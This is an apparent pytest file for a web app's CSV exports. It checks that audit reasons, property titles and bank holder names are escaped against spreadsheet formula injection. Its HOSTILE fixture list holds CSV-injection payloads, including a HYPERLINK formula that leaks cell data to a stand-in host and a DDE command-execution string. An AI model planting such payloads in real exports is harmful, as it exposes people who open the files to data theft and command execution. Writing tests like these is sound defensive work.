"""Exports carry no formulas. Someone types a formula where a name, a property title or an audit reason goes; a
member of staff (or the investor) later opens an export in a spreadsheet: every cell that begins like a formula is
written as text (a leading apostrophe), in every export, and numbers we hold as numbers stay numbers."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from app.admin.base import SecureModelView
from app.admin.views.audit import AuditView
from app.core.audit import AuditRecord, record
from app.core.csvfile import FORMULA_STARTS, csv_text, escape_cell
from app.core.db import unit_of_work
from app.core.money import Money
from app.extensions import db
from app.investing import services as investing
from app.payouts import services as payouts
from app.payouts.models import PayoutBatch
from tests.support import csrf_from

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    loose = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert loose == [], f"cells a spreadsheet would run: {loose}"


def sign_in_staff(client, login, make_user, role: str):
    staff = make_user(role=role)
    response = login(staff)
    assert response.status_code == 302, response.status_code
    return staff


def test_hostile_audit_reasons_are_text_in_the_audit_export(app, client, login, make_user):
    target = make_user()
    with unit_of_work():
        for reason in HOSTILE:
            record("user.note", target=target, reason=reason)
    sign_in_staff(client, login, make_user, "compliance")
    response = client.get("/admin/audit/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = rows_of(response.get_data(as_text=True))
    reasons = [row[rows[0].index("Reason")] for row in rows[1:] if row[rows[0].index("Action")] == "user.note"]
    assert sorted(reasons) == sorted("'" + h for h in HOSTILE)
    assert_no_formula(rows)


def test_hostile_property_titles_are_text_in_the_investors_statement(client, login, make_investor, make_property):
    investor = make_investor("5000.00")
    for n, title in enumerate(HOSTILE):
        p = make_property(title=title, slug=f"hostile-{n}")
        investing.invest(investor, p.id, Money(10_000, "USD"), acknowledged=True, ip="192.0.2.1")
        db.session.commit()
    login(investor)
    response = client.get("/wallet/statement.csv")
    assert response.status_code == 200
    rows = rows_of(response.get_data(as_text=True))
    descriptions = [row[rows[0].index("Description")] for row in rows[1:]]
    for title in HOSTILE:  # the investor's words around the title: never a cell's formula
        assert f"Investment in {title}" in descriptions, (title, descriptions)
    assert_no_formula(rows)


def test_a_hostile_account_holder_name_is_text_in_the_bank_file(client, login, make_user, investor, method, finance):
    method.holder_name, method.bank_name = HOSTILE[0], HOSTILE[1]
    investor.first_name = HOSTILE[3]
    db.session.commit()
    payout = payouts.request_payout(investor, Money(2_000, "USD"), method.id)
    payouts.approve(payout, actor=finance)
    db.session.commit()
    login(finance)
    html = client.get("/admin/payouts/").get_data(as_text=True)
    made = client.post("/admin/payouts/action/", data={"csrf_token": csrf_from(html), "action": "export",
                                                       "rowid": [str(payout.id)]})
    assert made.status_code == 200 and made.mimetype == "text/csv"
    batch = db.session.scalar(select(PayoutBatch))
    again = client.get(f"/admin/payout_batches/{batch.id}/file")
    for response in (made, again):
        rows = rows_of(response.get_data(as_text=True))
        assert rows[1][1] == "'" + HOSTILE[0] and rows[1][2] == "'" + HOSTILE[1]
        assert rows[1][8] == "20.00"
        assert_no_formula(rows)


def test_every_console_list_export_goes_through_the_one_csv_writer(app):
    """Flask-Admin's built-in export (can_export) has its own CSV writer that escapes nothing: every view that
    offers it is a SecureModelView, whose export (audited) writes through app.core.csvfile and offers CSV, and XLSX
    where a view lists it, nothing else (tablib's other formats would skip the audit and the escaping)."""
    admin = app.extensions["admin"][0]
    exporting = [v for v in admin._views if getattr(v, "can_export", False)]
    assert exporting, "the audit trail at least offers an export"
    for view in exporting:
        assert isinstance(view, SecureModelView), view
        assert type(view)._export_csv is SecureModelView._export_csv, view
        assert type(view)._export_tablib is SecureModelView._export_tablib, view
        assert "csv" in view.export_types and set(view.export_types) <= {"csv", "xlsx"}, view


def test_a_console_list_export_in_another_format_is_refused_and_writes_nothing(app, client, login, make_user,
                                                                              monkeypatch):
    monkeypatch.setattr(AuditView, "export_types", ["csv", "ods"])
    sign_in_staff(client, login, make_user, "compliance")
    response = client.get("/admin/audit/export/ods/")
    assert response.status_code == 302
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(AuditRecord)
                             .where(AuditRecord.action == "audit.export")) == 0


@pytest.mark.parametrize("hostile", HOSTILE)
def test_one_writer_escapes_each_formula_start(hostile):
    assert escape_cell(hostile) == "'" + hostile
    assert rows_of(csv_text(["h"], [[hostile]]))[1] == ["'" + hostile]


def test_negative_numbers_stay_numbers_only_when_held_as_numbers():
    """A number we hold as a number cannot be a formula: -12.50 stays numeric. The same characters arriving as
    text (a name, a reference, anything typed) are escaped: we cannot prove they are a number we produced."""
    assert escape_cell(Decimal("-12.50")) == "-12.50"
    assert escape_cell(Money(-1250, "USD")) == "-12.50"
    assert escape_cell(-1250) == "-1250"
    assert escape_cell(-1.5) == "-1.5"
    assert escape_cell("-12.50") == "'-12.50"
    assert escape_cell("-2+3") == "'-2+3"
    assert escape_cell(True) == "True" and escape_cell(None) == ""
    assert escape_cell(Decimal("NaN")) == "NaN" and escape_cell(float("inf")) == "inf"
    assert rows_of(csv_text(None, [[Decimal("-12.50"), "-12.50"]])) == [["-12.50", "'-12.50"]]
